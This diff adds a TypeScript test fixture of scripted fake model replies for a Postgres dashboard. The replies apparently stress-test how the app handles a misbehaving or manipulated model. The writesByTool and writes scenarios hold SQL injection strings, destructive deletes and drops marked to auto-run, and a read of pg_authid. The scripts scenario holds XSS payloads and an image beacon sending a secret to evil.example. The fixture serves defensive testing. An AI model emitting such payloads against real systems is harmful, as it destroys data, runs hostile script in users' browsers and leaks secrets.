@@ -1,0 +1,178 @@
+import type { Reply, ReplyPart, Script } from './reply.ts';
+
+const sqlBlock = (props: object, sql: string) =>
+  `\`\`\`sql\n-- props: ${JSON.stringify(props)}\n${sql}\n\`\`\``;
+
+const inSteps =
+  (...replies: Reply[]): Script =>
+  (_request, step) =>
+    replies[Math.min(step, replies.length - 1)]!;
+
+const always =
+  (reply: Reply): Script =>
+  () =>
+    reply;
+
+const openAiError = (message: string, type: string) => JSON.stringify({ error: { message, type } });
+
+const books: ReplyPart = {
+  text: `Here are the books:\n\n${sqlBlock({ title: 'All books', runQuery: true }, 'select id, title from books order by id')}\n\nRun it as it is.`,
+};
+
+/**
+ * Replies that are chosen by a word in the person's message: `scenario:writes`. Each is what a real model has done, or what
+ * one could be brought to do by somebody who wants harm.
+ */
+export const scenarios = {
+  /** Plain words. */
+  plain: always([{ text: 'Howdah is a dashboard for Postgres. Ask away.' }]),
+  /** A select that may run by itself. */
+  select: always([books]),
+  /** A select whose rows are drawn as bars. */
+  chart: always([
+    {
+      text: sqlBlock(
+        { title: 'Books by genre', runQuery: true, isChart: true, xAxis: 'genre', yAxis: 'books' },
+        'select genre, count(*) as books from books group by genre order by genre',
+      ),
+    },
+  ]),
+  /** Looks at the tables first, then answers. */
+  tables: inSteps(
+    [{ text: 'Let me look. ' }, { tool: 'listTables', input: { schemas: ['public'] } }],
+    [books],
+  ),
+  /** Two calls at once. */
+  twoTools: inSteps(
+    [
+      { tool: 'listSchemas', input: {} },
+      { tool: 'listPolicies', input: { schemas: ['public'] } },
+    ],
+    [{ text: 'I have looked at schemas and policies.' }],
+  ),
+  /** Thinks aloud first, in both ways that models do. */
+  thoughts: always([{ thought: 'The person wants books.' }, { text: '<think>Or do they?</think>' }, books]),
+  /** Word by word. */
+  slow: always(
+    'Slowly and surely the elephant walks home.'
+      .split(/(?<= )/)
+      .flatMap((text) => [{ text }, { pause: 150 }]),
+  ),
+  /** Says something, then nothing more. */
+  silent: always([{ text: 'One moment. ' }, { hang: true }]),
+  /** Says nothing at all. */
+  hang: always([{ hang: true }]),
+  /** Never ends. */
+  endless: always([{ endless: 'and on ', every: 5 }]),
+  /** Never ends, as fast as it can. */
+  flood: always([{ endless: 'x'.repeat(4096), every: 0 }]),
+  /** Asks for the same tool for ever. */
+  toolLoop: always([{ tool: 'listSchemas', input: {} }]),
+  /** Asks for a hundred tools at once. */
+  toolFlood: inSteps(
+    Array.from({ length: 100 }, () => ({ tool: 'listTables', input: {} })),
+    [{ text: 'Enough.' }],
+  ),
+  /** Asks for a tool that nobody has. */
+  unknownTool: inSteps(
+    [{ tool: 'runSql', input: { sql: 'drop table books' } }],
+    [{ text: 'I could not do that.' }],
+  ),
+  /** Tool input that is not what was asked for. */
+  badInput: inSteps([{ tool: 'describeTables', input: { tables: 7 } }], [{ text: 'I asked wrongly.' }]),
+  /** Tool input that is no JSON. */
+  brokenInput: inSteps(
+    [{ tool: 'describeTables', input: '{"schema": "pub' }],
+    [{ text: 'I asked wrongly.' }],
+  ),
+  /** Tries to write through the tool that explains. */
+  writesByTool: inSteps(
+    [
+      { tool: 'explainSelect', input: { sql: 'delete from books' } },
+      { tool: 'explainSelect', input: { sql: 'select 1; delete from books' } },
+      {
+        tool: 'explainSelect',
+        input: { sql: 'with gone as (delete from books returning 1) select * from gone' },
+      },
+      { tool: 'explainSelect', input: { sql: 'select * into copied from books' } },
+      { tool: 'explainSelect', input: { sql: '(analyze) delete from books' } },
+      { tool: 'explainSelect', input: { sql: 'select * from pg_authid' } },
+      {
+        tool: 'describeTables',
+        input: { schema: "public'); drop table books; --", tables: ["books'; drop table books; --"] },
+      },
+      { tool: 'listFunctions', input: { schema: "\\'; drop table books; --" } },
+    ],
+    [{ text: 'It did not work.' }],
+  ),
+  /** SQL that writes, marked as if it could run by itself. */
+  writes: always([
+    { text: sqlBlock({ title: 'Books', runQuery: true }, 'delete from books') },
+    {
+      text: `\n\n${sqlBlock({ title: 'More', runQuery: true }, 'with d as (delete from books returning 1) select count(*) from d')}`,
+    },
+    {
+      text: `\n\n${sqlBlock({ title: 'Again', runQuery: true }, 'select created_at from books; drop schema public cascade')}`,
+    },
+  ]),
+  /** Markdown that would run in the page. */
+  scripts: always([
+    {
+      text: [
+        'Hello <script>document.title = "owned"</script><img src=x onerror="document.title=\'owned\'">',
+        '[click](javascript:document.title=%22owned%22) [data](data:text/html,<script>1</script>)',
+        '![tracked](https://evil.example/pixel.png?q=secret)',
+        '<iframe src="https://evil.example"></iframe><a href="vbscript:x">x</a>',
+        sqlBlock(
+          { title: '<img src=x onerror=alert(1)>', runQuery: true },
+          "select '<script>1</script>' as html",
+        ),
+      ].join('\n\n'),
+    },
+  ]),
+  /** The connection breaks in the middle of a word. */
+  cut: always([{ text: 'The first half ' }, { pause: 50 }, { cut: true }]),
+  /** The stream ends without its end. */
+  unfinished: always([{ text: 'The first half ' }, { unfinished: true }]),
+  /** Not what was agreed on, in the middle. */
+  garbage: always([{ text: 'The first half ' }, { raw: 'data: {"choices": [\n\n' }, { text: 'the second' }]),
+  /** An error in the middle, as servers send it. */
+  errorChunk: always([{ text: 'The first half ' }, { error: 'The GPU has left. sk-do-not-show' }]),
+  /** Ends where its length ends. */
+  tooLong: always([{ text: 'The first half ' }, { finish: 'length' }]),
+  filtered: always([{ text: 'The first ' }, { finish: 'content_filter' }]),
+  empty: always([]),
+  /** Refusals of the server. */
+  refusesKey: always({
+    status: 401,
+    body: openAiError('Incorrect API key provided: sk-do-not-show.', 'invalid_request_error'),
+  }),
+  busy: always({ status: 429, body: openAiError('Rate limit reached', 'rate_limit_error') }),
+  refuses: always({
+    status: 400,
+    body: openAiError('This model does not support tools', 'invalid_request_error'),
+  }),
+  fails: always({ status: 500, body: openAiError('Out of memory', 'server_error') }),
+  failsInHtml: always({ status: 502, body: '<h1>Bad gateway</h1>', type: 'text/html' }),
+  /** A page where a stream should be. */
+  page: always({ status: 200, body: '<h1>It works</h1>', type: 'text/html' }),
+  /** For the calls of the editor. */
+  title: always([{ text: '{"title": "Newest books", "description": "The ten books that came last."}' }]),
+  titleInWords: always([
+    { text: 'Sure! Here it is:\n```json\n{"title": "Newest books", "description": "Ten."}\n```\nEnjoy.' },
+  ]),
+  titleNonsense: always([{ text: 'I would call it something with books.' }]),
+  completion: always([{ text: 'select id, title from books where price > 10' }]),
+  completionInFence: always([{ text: '```sql\nselect id, title\nfrom books\n```' }]),
+  completionInWords: always([
+    { text: 'Here you are:\n\n```sql\nselect id from books\n```\n\nIt reads the books.' },
+  ]),
+} satisfies Record<string, Script>;
+
+export type Scenario = keyof typeof scenarios;
+
+/** The scenario that a message names; undefined where it names none. */
+export function scenarioIn(question: string): Scenario | undefined {
+  const name = /\bscenario:(\w+)/.exec(question)?.[1];
+  return name !== undefined && name in scenarios ? (name as Scenario) : undefined;
+}
